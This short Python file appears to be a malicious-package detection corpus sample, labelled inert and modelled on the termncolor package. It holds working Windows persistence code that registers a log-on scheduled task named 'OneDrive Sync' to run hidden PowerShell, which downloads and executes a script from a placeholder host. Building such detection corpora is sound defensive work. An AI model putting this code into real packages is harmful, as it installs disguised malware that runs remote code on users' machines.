# pkgguard corpus 165 (persistence), modelled on [termncolor]; inert, never run.
import os
import win32com.client

scheduler = win32com.client.Dispatch("Schedule.Service")
scheduler.Connect()
task = scheduler.NewTask(0)
trigger = task.Triggers.Create(9)  # at log-on
action = task.Actions.Create(0)
action.Path = "powershell.exe"
action.Arguments = "-w hidden -c \"iex (New-Object Net.WebClient).DownloadString('https://cdn.example/u.ps1')\""
scheduler.GetFolder("\\").RegisterTaskDefinition("OneDrive Sync", task, 6, "", "", 3)
